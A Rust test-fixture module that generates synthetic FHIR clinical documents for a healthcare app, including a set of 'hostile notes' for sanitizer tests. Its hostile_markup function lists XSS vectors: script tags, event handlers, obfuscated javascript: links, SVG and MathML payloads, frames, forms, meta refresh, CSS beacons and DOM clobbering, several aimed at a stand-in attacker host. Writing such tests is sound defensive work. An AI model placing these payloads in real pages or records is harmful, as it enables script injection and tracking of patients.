//! Notes and reports for the generated patients: lab panels with conclusions
//! (DiagnosticReport), imaging reports, progress notes as text/plain and as XHTML
//! (DocumentReference), a discharge letter as a PDF (a Binary), and the content of the
//! hostile-notes patient: every markup attack a narrative or attachment has carried, and one
//! note over the app's size cap.

use base64::engine::general_purpose::STANDARD;
use base64::Engine;
use serde_json::{json, Value};

use crate::html::escape;

pub const LOINC: &str = "http://loinc.org";
const V2_0074: &str = "http://terminology.hl7.org/CodeSystem/v2-0074";
const XHTML_NS: &str = "http://www.w3.org/1999/xhtml";

/// The sandbox's stand-in for a tracker or an attacker's server: nothing listens there; the
/// e2e tests prove the app never asks.
pub const ATTACKER: &str = "https://tracker.invalid";

pub fn b64(bytes: &[u8]) -> String {
    STANDARD.encode(bytes)
}

/// One result of a lab panel: Observation id, short name, value with unit, flag word.
pub struct PanelResult {
    pub id: String,
    pub name: String,
    pub value: String,
    pub flag: &'static str,
}

/// The conclusion a pathologist would sign: the abnormal results, or that all are in range.
pub fn lab_conclusion(results: &[PanelResult]) -> String {
    let abnormal: Vec<String> = results
        .iter()
        .filter(|r| r.flag != "Normal")
        .map(|r| format!("{} {} ({})", r.name, r.flag.to_lowercase(), r.value))
        .collect();
    if abnormal.is_empty() {
        "All results within reference ranges.".into()
    } else {
        format!(
            "{}. Other results within reference ranges.",
            abnormal.join("; ")
        )
    }
}

/// A laboratory DiagnosticReport over the panel's Observations.
pub fn lab_report(
    id: &str,
    patient: &str,
    encounter: Option<&str>,
    when: &str,
    issued: &str,
    results: &[PanelResult],
) -> Value {
    let rows: String = results
        .iter()
        .map(|r| {
            format!(
                "<tr><td>{}</td><td>{}</td><td>{}</td></tr>",
                escape(&r.name),
                escape(&r.value),
                r.flag
            )
        })
        .collect();
    let mut r = json!({
        "resourceType": "DiagnosticReport",
        "id": id,
        "status": "final",
        "category": [{ "coding": [{ "system": V2_0074, "code": "LAB", "display": "Laboratory" }], "text": "Laboratory" }],
        "code": { "coding": [{ "system": LOINC, "code": "24323-8", "display": "Comprehensive metabolic 2000 panel - Serum or Plasma" }], "text": "Chemistry and haematology panel" },
        "subject": { "reference": format!("Patient/{patient}") },
        "effectiveDateTime": when,
        "issued": issued,
        "performer": [{ "display": "General Hospital Laboratory" }],
        "result": results.iter().map(|r| json!({ "reference": format!("Observation/{}", r.id), "display": r.name })).collect::<Vec<_>>(),
        "conclusion": lab_conclusion(results),
        "text": { "status": "generated", "div": format!(
            "<div xmlns=\"{XHTML_NS}\"><table><thead><tr><th>Test</th><th>Result</th><th>Flag</th></tr></thead><tbody>{rows}</tbody></table></div>"
        ) },
    });
    if let Some(e) = encounter {
        r["encounter"] = json!({ "reference": format!("Encounter/{e}") });
    }
    r
}

/// A chest X-ray report, its text as a text/plain `presentedForm`.
pub fn imaging_report(id: &str, patient: &str, when: &str, radiologist: &str, n: usize) -> Value {
    let (findings, conclusion) = if n % 3 == 0 {
        (
            "Mild cardiomegaly. No focal consolidation, effusion or pneumothorax.",
            "Mild cardiomegaly, unchanged from prior. No acute cardiopulmonary process.",
        )
    } else {
        (
            "Lungs clear. Heart size normal. No effusion or pneumothorax.",
            "No acute cardiopulmonary process.",
        )
    };
    let text = format!(
        "CHEST X-RAY, 2 VIEWS\n\nIndication: cough.\nComparison: none.\n\nFindings: {findings}\n\nImpression: {conclusion}\n\nReported by {radiologist}."
    );
    json!({
        "resourceType": "DiagnosticReport",
        "id": id,
        "status": "final",
        "category": [{ "coding": [{ "system": V2_0074, "code": "RAD", "display": "Radiology" }], "text": "Imaging" }],
        "code": { "coding": [{ "system": LOINC, "code": "36643-5", "display": "XR Chest 2 Views" }], "text": "Chest X-ray" },
        "subject": { "reference": format!("Patient/{patient}") },
        "effectiveDateTime": when,
        "issued": when,
        "resultsInterpreter": [{ "display": radiologist }],
        "conclusion": conclusion,
        "presentedForm": [{ "contentType": "text/plain; charset=utf-8", "title": "Radiology report", "data": b64(text.as_bytes()) }],
    })
}

/// What a progress note says about one visit.
pub struct Visit<'a> {
    pub patient: &'a str,
    pub encounter: &'a str,
    pub when: &'a str,
    pub clinician: &'a str,
    pub reason: &'a str,
    pub weight_kg: f64,
}

fn note_frame(id: &str, v: &Visit, attachment: Value) -> Value {
    json!({
        "resourceType": "DocumentReference",
        "id": id,
        "status": "current",
        "docStatus": "final",
        "type": { "coding": [{ "system": LOINC, "code": "11506-3", "display": "Progress note" }], "text": "Progress note" },
        "category": [{ "coding": [{ "system": "http://hl7.org/fhir/us/core/CodeSystem/us-core-documentreference-category", "code": "clinical-note", "display": "Clinical Note" }], "text": "Clinical note" }],
        "subject": { "reference": format!("Patient/{}", v.patient) },
        "date": v.when,
        "author": [{ "display": v.clinician }],
        "description": format!("Visit for {}", v.reason.to_lowercase()),
        "content": [{ "attachment": attachment }],
        "context": { "encounter": [{ "reference": format!("Encounter/{}", v.encounter) }] },
    })
}

/// How a progress note's text is sent.
#[derive(Clone, Copy, PartialEq, Eq)]
pub enum NoteFormat {
    Text,
    /// `application/xhtml+xml`: a well-formed document.
    Xhtml,
    /// `text/html` as EHRs write it: unclosed `<br>` and `<p>`, `&nbsp;`, not XML.
    Html,
}

/// A progress note in one of the three formats.
pub fn progress_note(id: &str, v: &Visit, format: NoteFormat) -> Value {
    let s = "Patient seen for follow-up.";
    let o = format!("Weight {:.1} kg. Examination unremarkable.", v.weight_kg);
    let a = format!("{}: stable.", v.reason);
    let p = "Continue current treatment. Review in 3 months.";
    let attachment = match format {
        NoteFormat::Xhtml => {
            let doc = format!(
                "<html xmlns=\"{XHTML_NS}\"><head><title>Progress note</title></head><body>\
                 <h2>Progress note</h2><p><b>Subjective:</b> {s}</p><p><b>Objective:</b> {}</p>\
                 <p><b>Assessment:</b> {}</p><p><b>Plan:</b></p><ul><li>{p}</li></ul>\
                 <p><i>Signed: {}</i></p></body></html>",
                escape(&o),
                escape(&a),
                escape(v.clinician)
            );
            json!({ "contentType": "application/xhtml+xml", "title": "Progress note", "data": b64(doc.as_bytes()) })
        }
        NoteFormat::Html => {
            let doc = format!(
                "<!DOCTYPE html><html><head><meta charset=utf-8><title>Progress note</title></head><body>\
                 <h2>Progress note</h2><p><b>Subjective:</b>&nbsp;{s}<p><b>Objective:</b>&nbsp;{}<br>\
                 <p><b>Assessment:</b>&nbsp;{}<p><b>Plan:</b><ul><li>{p}</ul>\
                 <p><i>Signed: {}</i>",
                escape(&o),
                escape(&a),
                escape(v.clinician)
            );
            json!({ "contentType": "text/html; charset=utf-8", "title": "Progress note", "data": b64(doc.as_bytes()) })
        }
        NoteFormat::Text => {
            let text = format!(
                "SUBJECTIVE: {s}\nOBJECTIVE: {o}\nASSESSMENT: {a}\nPLAN: {p}\n\nSigned: {}",
                v.clinician
            );
            json!({ "contentType": "text/plain; charset=utf-8", "title": "Progress note", "data": b64(text.as_bytes()) })
        }
    };
    note_frame(id, v, attachment)
}

/// A one-page PDF with these lines of text in Helvetica, written by `pdf-writer`.
pub fn pdf(lines: &[&str]) -> Vec<u8> {
    use pdf_writer::{Content, Name, Pdf, Rect, Ref, Str};
    let (catalog, pages, page_id, font, contents) = (
        Ref::new(1),
        Ref::new(2),
        Ref::new(3),
        Ref::new(4),
        Ref::new(5),
    );
    let font_name = Name(b"F1");
    let mut pdf = Pdf::new();
    pdf.catalog(catalog).pages(pages);
    pdf.pages(pages).kids([page_id]).count(1);
    let mut page = pdf.page(page_id);
    page.media_box(Rect::new(0.0, 0.0, 612.0, 792.0));
    page.parent(pages);
    page.contents(contents);
    page.resources().fonts().pair(font_name, font);
    drop(page);
    pdf.type1_font(font).base_font(Name(b"Helvetica"));
    let mut text = Content::new();
    text.begin_text();
    text.set_font(font_name, 12.0);
    text.set_leading(16.0);
    text.next_line(72.0, 760.0);
    for line in lines {
        // The standard fonts' encoding: ASCII is safe; anything else is left out.
        let ascii: String = line.chars().filter(char::is_ascii).collect();
        text.show(Str(ascii.as_bytes()));
        text.next_line_using_leading();
    }
    text.end_text();
    pdf.stream(contents, &text.finish());
    pdf.finish()
}

/// A greyscale PNG of `width` × `height` whose pixels `shade(x, y)` gives, written by `png`.
pub fn png(width: u32, height: u32, shade: impl Fn(u32, u32) -> u8) -> Vec<u8> {
    let pixels: Vec<u8> = (0..height)
        .flat_map(|y| (0..width).map(move |x| (x, y)))
        .map(|(x, y)| shade(x, y))
        .collect();
    let mut out = Vec::new();
    let mut encoder = png::Encoder::new(&mut out, width, height);
    encoder.set_color(png::ColorType::Grayscale);
    encoder.set_depth(png::BitDepth::Eight);
    // Writing into memory fails only on a size mismatch, which the loop above rules out.
    let written = encoder
        .write_header()
        .and_then(|mut w| w.write_image_data(&pixels));
    if written.is_err() {
        return Vec::new();
    }
    out
}

/// An RTF document of these paragraphs (RTF 1.9.1: `\par` ends a paragraph; characters
/// outside ASCII as `\uN?`, with `\`, `{` and `}` escaped).
pub fn rtf(lines: &[&str]) -> Vec<u8> {
    let mut out = String::from("{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Arial;}}\\f0\\fs22\n");
    for (i, line) in lines.iter().enumerate() {
        if i == 0 {
            out.push_str("{\\b ");
        }
        for c in line.chars() {
            match c {
                '\\' | '{' | '}' => {
                    out.push('\\');
                    out.push(c);
                }
                c if c.is_ascii() => out.push(c),
                // RTF's \u takes a signed 16-bit number; one `?` stands in for readers without it.
                c => {
                    let mut units = [0u16; 2];
                    for u in c.encode_utf16(&mut units) {
                        out.push_str(&format!("\\u{}?", *u as i16));
                    }
                }
            }
        }
        if i == 0 {
            out.push('}');
        }
        out.push_str("\\par\n");
    }
    out.push('}');
    out.into_bytes()
}

/// A discharge summary whose letter is on the FHIR server twice, as a PDF and as RTF (Oracle
/// Health offers `text/rtf` among a document's types), both Binaries fetched with the token;
/// its narrative shows a figure that is a Binary too (an image the app fetches with the token).
/// Returns the DocumentReference, then the PDF, the figure and the RTF Binaries.
pub fn discharge_summary(
    id: &str,
    binary_id: &str,
    patient: &str,
    name: &str,
    when: &str,
    clinician: &str,
) -> (Value, Value, Value, Value) {
    let letter = [
        "General Hospital - Discharge summary",
        "",
        &format!("Patient: {name}"),
        &format!("Discharged: {when}"),
        "Diagnosis: community-acquired pneumonia, treated.",
        "Medications on discharge: amoxicillin 500 mg three times daily for 5 days.",
        "Follow-up: primary care in 1 week.",
        &format!("Signed: {clinician}"),
    ];
    let bytes = pdf(&letter);
    let rtf_bytes = rtf(&letter);
    let rtf_id = format!("{id}-rtf");
    let doc = json!({
        "resourceType": "DocumentReference",
        "id": id,
        "status": "current",
        "docStatus": "final",
        "type": { "coding": [{ "system": LOINC, "code": "18842-5", "display": "Discharge summary" }], "text": "Discharge summary" },
        "category": [{ "text": "Clinical note" }],
        "subject": { "reference": format!("Patient/{patient}") },
        "date": when,
        "author": [{ "display": clinician }],
        "content": [{ "attachment": {
            "contentType": "application/pdf",
            "url": format!("Binary/{binary_id}"),
            "size": bytes.len(),
            "title": "Discharge summary (PDF)",
        } }, { "attachment": {
            "contentType": "text/rtf",
            "url": format!("Binary/{rtf_id}"),
            "size": rtf_bytes.len(),
            "title": "Discharge summary (RTF)",
        } }],
    });
    let rtf_binary = json!({
        "resourceType": "Binary",
        "id": rtf_id,
        "contentType": "text/rtf",
        "securityContext": { "reference": format!("DocumentReference/{id}") },
        "data": b64(&rtf_bytes),
    });
    let binary = json!({
        "resourceType": "Binary",
        "id": binary_id,
        "contentType": "application/pdf",
        "securityContext": { "reference": format!("DocumentReference/{id}") },
        "data": b64(&bytes),
    });
    let figure_id = format!("{binary_id}-figure");
    let mut doc = doc;
    doc["text"] = json!({ "status": "generated", "div": format!(
        "<div xmlns=\"{XHTML_NS}\"><p>Discharge summary for {}; the letter is attached as a PDF.</p>\
         <p><img src=\"Binary/{figure_id}\" alt=\"Chest X-ray at discharge\" width=\"64\" height=\"64\"/></p></div>",
        escape(name)
    ) });
    // A radial gradient: something to see, and a size the test can check.
    let figure = png(64, 64, |x, y| {
        let (dx, dy) = (x as i32 - 32, y as i32 - 32);
        (255 - ((dx * dx + dy * dy) as f64).sqrt().min(45.0) as i32 * 5) as u8
    });
    let figure = json!({
        "resourceType": "Binary",
        "id": figure_id,
        "contentType": "image/png",
        "securityContext": { "reference": format!("DocumentReference/{id}") },
        "data": b64(&figure),
    });
    (doc, binary, figure, rtf_binary)
}

/// Markup that has broken healthcare viewers: script, handlers, hostile URLs in every
/// spelling, SVG and MathML, clobbering, CSS with `url()`, frames, forms, a `base`, a meta
/// refresh, and images that would tell a tracker the chart was opened. Each would set
/// `window.__pwned` or ask [`ATTACKER`] for something.
pub fn hostile_markup() -> String {
    format!(
        "<h3>Note with hostile markup</h3>\
         <p>Visible text stays.</p>\
         <script>window.__pwned = 'script';</script>\
         <p onclick=\"window.__pwned = 'onclick'\" onmouseover=\"window.__pwned = 'hover'\">Point here.</p>\
         <img src=\"{ATTACKER}/pixel.gif\" alt=\"tracking pixel\" onerror=\"window.__pwned = 'onerror'\"/>\
         <img src=\"x\" onerror=\"window.__pwned = 'onerror2'\"/>\
         <a href=\"javascript:window.__pwned = 'js-link'\">javascript link</a> \
         <a href=\"JaVaScRiPt&#58;window.__pwned = 'entity-link'\">entity link</a> \
         <a href=\" &#x09;javascript:window.__pwned = 'ws-link'\">whitespace link</a> \
         <a href=\"vbscript:msgbox(1)\">vbscript link</a> \
         <a href=\"data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+\">data link</a> \
         <a href=\"{ATTACKER}/phish\" target=\"_self\">outside https link</a>\
         <svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"window.__pwned = 'svg'\"><script>window.__pwned = 'svg-script'</script></svg>\
         <math xmlns=\"http://www.w3.org/1998/Math/MathML\"><mtext><img src=\"{ATTACKER}/math.gif\"/></mtext></math>\
         <iframe src=\"{ATTACKER}/frame\"></iframe>\
         <object data=\"{ATTACKER}/object\"></object><embed src=\"{ATTACKER}/embed\"/>\
         <form action=\"{ATTACKER}/form\"><input name=\"q\"/><button>Send</button></form>\
         <base href=\"{ATTACKER}/\"/>\
         <meta http-equiv=\"refresh\" content=\"0;url={ATTACKER}/refresh\"/>\
         <link rel=\"stylesheet\" href=\"{ATTACKER}/style.css\"/>\
         <style>body {{ background: url({ATTACKER}/bg.png) }}</style>\
         <p style=\"background-image: url({ATTACKER}/css.png); text-align: center\">Centred text.</p>\
         <p id=\"status\" name=\"location\">Clobbering ids are dropped.</p>\
         <table><tr><td>Cell text stays</td></tr></table>"
    )
}

/// The hostile-notes patient's documents: hostile XHTML as an attachment and as a report's
/// narrative, text/plain that looks like markup, an attachment stored elsewhere, HTML that is
/// not XML, and one note over the app's 256 KB cap.
pub fn hostile_documents(patient: &str, when: &str) -> Vec<Value> {
    let subject = json!({ "reference": format!("Patient/{patient}") });
    let doc = |id: &str, title: &str, attachment: Value| {
        json!({
            "resourceType": "DocumentReference",
            "id": id,
            "status": "current",
            "type": { "text": title },
            "subject": subject,
            "date": when,
            "author": [{ "display": "Unknown sender" }],
            "content": [{ "attachment": attachment }],
        })
    };
    let page = format!(
        "<html xmlns=\"{XHTML_NS}\"><head><script>window.__pwned = 'head-script'</script></head><body>{}</body></html>",
        hostile_markup()
    );
    let big_rows: String = (0..6000)
        .map(|i| format!("<p>Line {i} of a very long imported note.</p>"))
        .collect();
    let big = format!("<html xmlns=\"{XHTML_NS}\"><body>{big_rows}</body></html>");
    vec![
        doc(
            "hostile-xhtml",
            "Hostile XHTML note",
            json!({ "contentType": "text/html", "title": "Hostile note", "data": b64(page.as_bytes()) }),
        ),
        doc(
            "hostile-text",
            "Plain text that looks like markup",
            json!({ "contentType": "text/plain", "data": b64(b"<script>window.__pwned = 'text'</script> <b>not bold</b>") }),
        ),
        doc(
            "hostile-outside",
            "Letter stored elsewhere",
            json!({ "contentType": "application/pdf", "url": format!("{ATTACKER}/letter.pdf"), "title": "Letter" }),
        ),
        {
            let mut d = doc(
                "hostile-not-xml",
                "HTML that is not XML",
                json!({ "contentType": "text/html", "data": b64(b"<p>one<br>two<img src=x onerror=\"window.__pwned='tagsoup'\">") }),
            );
            // A narrative as EHRs send it, not XHTML: no namespace, unclosed tags, a handler.
            d["text"] = json!({
                "status": "generated",
                "div": "<div><p>Narrative as sent<br>by the EHR<p onclick=\"window.__pwned='narrative'\">unclosed</div>",
            });
            d
        },
        doc(
            "oversize-note",
            "Oversize imported note",
            json!({ "contentType": "text/html", "title": "Imported note", "data": b64(big.as_bytes()) }),
        ),
        json!({
            "resourceType": "DiagnosticReport",
            "id": "hostile-report",
            "status": "final",
            "code": { "text": "Report with a hostile narrative" },
            "subject": subject,
            "effectiveDateTime": when,
            "conclusion": "<img src=x onerror=alert(1)> is text here.",
            "text": { "status": "generated", "div": format!("<div xmlns=\"{XHTML_NS}\">{}</div>", hostile_markup()) },
        }),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_rtf_escapes_what_rtf_reserves() {
        let r = String::from_utf8(rtf(&["Title {x}", "Zoë \\ 😀"])).unwrap();
        assert!(r.starts_with("{\\rtf1") && r.ends_with('}'), "{r}");
        assert!(r.contains("{\\b Title \\{x\\}}\\par"), "{r}");
        assert!(r.contains("Zo\\u235? \\\\ \\u-10179?\\u-8704?\\par"), "{r}");
    }

    #[test]
    fn the_pdf_and_png_are_what_they_say() {
        let p = pdf(&["Hello (world)", "Zoë"]);
        let s = String::from_utf8_lossy(&p);
        assert!(s.starts_with("%PDF-") && s.trim_end().ends_with("%%EOF"));
        // Balanced parentheses are valid unescaped in a PDF literal string (PDF 1.7 §7.3.4.2).
        assert!(s.contains("(Hello (world)) Tj"), "{s}");
        assert!(s.contains("(Zo) Tj"), "non-ASCII left out: {s}");
        let p = png(3, 2, |x, y| (x * 10 + y) as u8);
        let decoder = png::Decoder::new(std::io::Cursor::new(p));
        let mut reader = decoder.read_info().unwrap();
        let mut buf = vec![0; reader.output_buffer_size().unwrap()];
        let info = reader.next_frame(&mut buf).unwrap();
        assert_eq!((info.width, info.height), (3, 2));
        assert_eq!(&buf[..6], &[0, 10, 20, 1, 11, 21]);
    }

    #[test]
    fn conclusions_name_the_abnormal_results() {
        let r = |name: &str, flag| PanelResult {
            id: "o".into(),
            name: name.into(),
            value: "1 u".into(),
            flag,
        };
        assert_eq!(
            lab_conclusion(&[r("Glucose", "High"), r("Potassium", "Normal")]),
            "Glucose high (1 u). Other results within reference ranges."
        );
        assert_eq!(
            lab_conclusion(&[r("Potassium", "Normal")]),
            "All results within reference ranges."
        );
    }

    #[test]
    fn the_oversize_note_is_over_the_apps_cap() {
        let docs = hostile_documents("p", "2026-01-01");
        let big = docs.iter().find(|d| d["id"] == "oversize-note").unwrap();
        let data = big["content"][0]["attachment"]["data"].as_str().unwrap();
        assert!(STANDARD.decode(data).unwrap().len() > 256 * 1024);
    }
}
